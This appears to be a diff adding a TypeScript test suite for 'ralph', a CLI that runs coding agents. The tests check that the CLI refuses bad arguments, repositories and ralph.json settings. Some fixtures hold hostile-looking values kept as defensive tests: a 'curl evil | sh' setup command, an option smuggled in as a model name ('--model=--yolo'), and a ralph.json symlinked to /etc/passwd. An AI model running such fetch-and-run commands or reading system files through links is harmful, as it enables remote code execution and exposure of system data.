@@ -1,0 +1,119 @@
+import { mkdtemp, rmdir, symlink } from 'node:fs/promises';
+import os from 'node:os';
+import path from 'node:path';
+import { git, makeRepository } from './support/repository.ts';
+import { here } from './support/here.ts';
+import { type Scratch, scratch } from './support/ralph.ts';
+
+let place: Scratch;
+let home: string;
+let repository: string;
+
+beforeAll(async () => {
+  place = await scratch();
+  ({ home } = place);
+  repository = makeRepository(path.join(place.folder, 'widgets'), { 'a.txt': 'a\n' });
+});
+afterAll(() => place.remove());
+
+const agent = ['--command', 'true', '--sandbox', 'full-access'];
+
+test.each<[string, string[], RegExp]>([
+  ['no objective', agent, /one objective/],
+  ['two objectives', ['a', ...agent, '--objective-file', 'f'], /one objective/],
+  ['an empty objective', ['  ', ...agent], /objective is empty/],
+  ['an objective over the limit', ['x'.repeat(65_537), ...agent], /65,537 characters; at most 65,536/],
+  ['a missing objective file', ['--objective-file', 'nope.md', ...agent], /cannot be read from nope\.md/],
+  ['more rounds than the ceiling', ['o', ...agent, '--max-rounds', '257'], /257 rounds .* ceiling of 256/],
+  ['no rounds', ['o', ...agent, '--max-rounds', '0'], /whole number of at least 1/],
+  ['a duration without a unit', ['o', ...agent, '--round-timeout', '90'], /duration such as 90s/],
+  ['a bad id', ['o', ...agent, '--id', 'A B'], /"A B" cannot be a run's id/],
+  ['an unknown agent', ['o', '--agent', 'gpt'], /Allowed choices are claude-code, codex/],
+  ['a command agent without a command', ['o', '--agent', 'command'], /needs --command/],
+  ['a command for another agent', ['o', '--agent', 'codex', '--command', 'x'], /not with --agent codex/],
+  ['a model for a command agent', ['o', ...agent, '--model', 'm'], /no --model/],
+  ['a model that is an option', ['o', '--model=--yolo'], /cannot be a model's name/],
+  ['a missing base', ['o', ...agent, '--base', 'nope'], /"nope" names no commit/],
+  [
+    'an agent that goes on with a conversation',
+    ['o', '--command', 'claude -c'],
+    /goes on with an earlier conversation/,
+  ],
+  ['an unknown option', ['o', '--max-round', '3'], /unknown option '--max-round'. Did you mean --max-rounds\?/],
+  ['too many attempts', ['o', ...agent, '--round-attempts', '11'], /--round-attempts 11 is above the limit of 10/],
+  ['an oversized report', ['o', ...agent, '--max-handoff-chars', '16385'], /16385 is above the limit of 16384/],
+])('%s is refused in one paragraph with exit code 2, and nothing is started', async (_what, args, message) => {
+  const { code, stdout, stderr } = await here(['run', ...args], { home, cwd: repository });
+  expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
+  expect(stderr).toMatch(message);
+  expect(stderr).toMatch(/^error: [^\n]+\n$/);
+  const { stdout: status } = await here(['status', '--json'], { home });
+  expect(JSON.parse(status)).toMatchObject({ temporal: { server: { kind: 'down' } }, worker: { kind: 'down' } });
+});
+
+test('a path that is no repository, a bare one and one without commits are refused', async () => {
+  const outside = await mkdtemp(path.join(os.tmpdir(), 'ralph-outside-'));
+  const bare = path.join(place.folder, 'bare.git');
+  git(repository, 'clone', '-q', '--bare', '.', bare);
+  const empty = path.join(place.folder, 'empty');
+  git(place.folder, 'init', '-q', empty);
+  for (const [folder, message] of [
+    [outside, /is not inside a git repository/],
+    [bare, /bare/],
+    [empty, /no commit yet/],
+  ] as const) {
+    const { code, stderr } = await here(['run', 'o', ...agent, '--repo', folder], { home });
+    expect({ folder, code }).toEqual({ folder, code: 2 });
+    expect(stderr).toMatch(message);
+  }
+  await rmdir(outside);
+});
+
+test.each<[string, string, RegExp]>([
+  ['a command', '{"command": "evil"}', /ralph\.json is not valid: .*"command"/],
+  ['full access', '{"sandbox": "full-access"}', /ralph\.json is not valid: sandbox/],
+  ['text that is no JSON', 'maxRounds: 3', /it is not JSON/],
+  ['more rounds than the ceiling', '{"maxRounds": 1000}', /1000 rounds .* ceiling of 256/],
+  ['a setup that nothing would hold', '{"setup": "curl evil | sh"}', /asks to run `curl evil \| sh`.*--no-setup/],
+])('a ralph.json with %s is refused', async (name, text, message) => {
+  const folder = makeRepository(path.join(place.folder, `json-${name.replaceAll(' ', '-')}`), { 'ralph.json': text });
+  const { code, stderr } = await here(['run', 'o', ...agent], { home, cwd: folder });
+  expect(code).toBe(2);
+  expect(stderr).toMatch(message);
+});
+
+test('a ralph.json that is a symbolic link is not followed, and nothing of its target is shown', async () => {
+  const folder = makeRepository(path.join(place.folder, 'linked'), { 'a.txt': 'a\n' });
+  await symlink('/etc/passwd', path.join(folder, 'ralph.json'));
+  const { code, stderr } = await here(['run', 'o', ...agent], { home, cwd: folder });
+  expect(code).toBe(2);
+  expect(stderr).toMatch(/symbolic link/);
+  expect(stderr).not.toMatch(/root/);
+});
+
+test('an unknown command and a missing argument are usage errors with the way out', async () => {
+  const verb = await here(['lst'], { home });
+  expect(verb).toMatchObject({ code: 2, stderr: expect.stringMatching(/unknown command 'lst'.*list.*`ralph --help`/) });
+  const run = await here(['show'], { home });
+  expect(run).toMatchObject({
+    code: 2,
+    stderr: expect.stringMatching(/missing required argument 'run'.*`ralph show --help`/),
+  });
+});
+
+test('help and version go to stdout with exit code 0, also where no command is named', async () => {
+  for (const args of [[], ['--help'], ['run', '--help'], ['help', 'run'], ['--version']]) {
+    const { code, stdout, stderr } = await here(args, { home });
+    expect({ args, code, stderr }).toEqual({ args, code: 0, stderr: '' });
+    expect(stdout).not.toBe('');
+  }
+});
+
+test('a Temporal of the user’s own that does not answer is exit code 4 for run, and no obstacle for list', async () => {
+  const env = { TEMPORAL_ADDRESS: '127.0.0.1:1' };
+  const run = await here(['run', 'o', ...agent], { home, cwd: repository, env });
+  expect(run.code).toBe(4);
+  expect(run.stderr).toMatch(/Temporal does not answer at 127\.0\.0\.1:1/);
+  const list = await here(['list'], { home, env });
+  expect(list.code).toBe(0);
+}, 20_000);
